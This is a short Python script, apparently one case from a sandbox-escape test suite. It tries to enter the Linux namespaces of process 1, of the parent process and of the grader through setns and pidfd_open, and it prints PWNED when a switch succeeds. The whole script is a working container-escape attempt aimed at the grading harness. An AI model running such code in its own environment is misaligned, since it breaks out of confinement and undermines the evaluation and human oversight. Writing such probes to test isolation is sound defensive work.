"""Enter the namespaces of process 1, of the parent and of the grader.

Shows: PWNED on stdout.
"""

import os
from contextlib import suppress

from kit import own, pwned, syscall, victims

numbers = {1, os.getppid(), *(number for number, _ in victims())} - {0}
for number in sorted(numbers):
    for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
        with suppress(OSError):
            here = os.open(f"/proc/{number}/ns/{name}", os.O_RDONLY)
            if os.fstat(here).st_ino != os.stat(f"/proc/self/ns/{name}").st_ino and syscall("setns", here, 0) >= 0:
                pwned(number, name)
    handle = syscall("pidfd_open", number, 0)
    if handle >= 0:
        for flags in (0x10000000, 0x20000, 0x20000000, 0x10000000 | 0x20000):
            if number not in own() and syscall("setns", handle, flags) >= 0:
                pwned(number, hex(flags))
